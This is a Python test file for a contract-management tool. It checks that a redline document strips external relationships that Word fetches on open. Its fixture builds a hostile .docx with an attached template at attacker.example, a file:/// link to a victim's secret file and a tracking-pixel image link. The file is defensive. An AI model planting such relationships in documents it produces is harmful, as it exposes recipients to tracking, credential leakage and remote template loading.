"""Issue 17 finding 10: a redline (and every package clm writes) fetches nothing from elsewhere on open."""

from __future__ import annotations

import io
import re
import zipfile

import docx
from PIL import Image

from clm.cli import main
from clm.versions.external_links import strip_external_relationships

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _hostile(text: str) -> bytes:
    """A counterparty's .docx with a remote template, a file: hyperlink, a web link and a linked picture."""
    document = docx.Document()
    for line in text.split("\n"):
        document.add_paragraph(line)
    png = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(png, format="PNG")
    png.seek(0)
    document.add_picture(png)
    buf = io.BytesIO()
    document.save(buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    files = {name: zin.read(name) for name in zin.namelist()}
    rels = files["word/_rels/document.xml.rels"].decode()
    extra = (f'<Relationship Id="rIdFile" Type="{R}/hyperlink" Target="file:///C:/Users/victim/secret.docx" '
             'TargetMode="External"/>'
             f'<Relationship Id="rIdWeb" Type="{R}/hyperlink" Target="https://example.com/terms" TargetMode="External"/>'
             f'<Relationship Id="rIdPic" Type="{R}/image" Target="http://tracker.example/pixel.png" TargetMode="External"/>')
    files["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", extra + "</Relationships>").encode()
    body = files["word/document.xml"].decode()
    link = ('<w:p><w:hyperlink r:id="rIdFile"><w:r><w:t>see the file</w:t></w:r></w:hyperlink>'
            '<w:hyperlink r:id="rIdWeb"><w:r><w:t> and the web</w:t></w:r></w:hyperlink></w:p>')
    body = body.replace("<w:sectPr", link + "<w:sectPr", 1)
    body = re.sub(r'<a:blip r:embed="(rId\d+)"', r'<a:blip r:embed="\1" r:link="rIdPic"', body, count=1)
    files["word/document.xml"] = body.encode()
    files["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>').encode()
    settings = files["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
    if 'xmlns:r=' not in settings.split(">", 2)[1] and "xmlns:r=" not in settings[:2000]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{R}" ', 1)
    files["word/settings.xml"] = settings.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in files.items():
            zout.writestr(name, data)
    return out.getvalue()


def _external(package: bytes) -> list[str]:
    zin = zipfile.ZipFile(io.BytesIO(package))
    found = []
    for name in zin.namelist():
        if name.endswith(".rels"):
            found += re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', zin.read(name).decode())
    return found


def test_the_fixture_is_hostile():
    found = " ".join(_external(_hostile("One.\nTwo.")))
    assert "attacker.example" in found and "file:///" in found and "tracker.example" in found


def test_stripping_keeps_web_links_and_drops_what_word_fetches():
    clean = strip_external_relationships(_hostile("One.\nTwo."))
    found = " ".join(_external(clean))
    assert "attacker.example" not in found and "file:///" not in found and "tracker.example" not in found
    assert "https://example.com/terms" in found
    zin = zipfile.ZipFile(io.BytesIO(clean))
    assert b"attachedTemplate" not in zin.read("word/settings.xml")
    body = zin.read("word/document.xml").decode()
    assert 'r:link="rIdPic"' not in body and 'r:id="rIdFile"' not in body and "see the file" in body
    docx.Document(io.BytesIO(clean))  # still a valid package
    assert strip_external_relationships(clean) == clean


def test_the_redline_of_a_counterparty_docx_fetches_nothing(runner, tmp_path):
    old = tmp_path / "old.docx"
    new = tmp_path / "new.docx"
    base = docx.Document()
    for line in ("One.", "Two."):
        base.add_paragraph(line)
    base.save(old)
    new.write_bytes(_hostile("One.\nTwo changed."))
    out = tmp_path / "redline.docx"
    result = runner.invoke(main, ["diff", str(old), str(new), "--format", "docx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    found = " ".join(_external(out.read_bytes()))
    assert "attacker.example" not in found and "file:///" not in found and "tracker.example" not in found
    assert "https://example.com/terms" in found
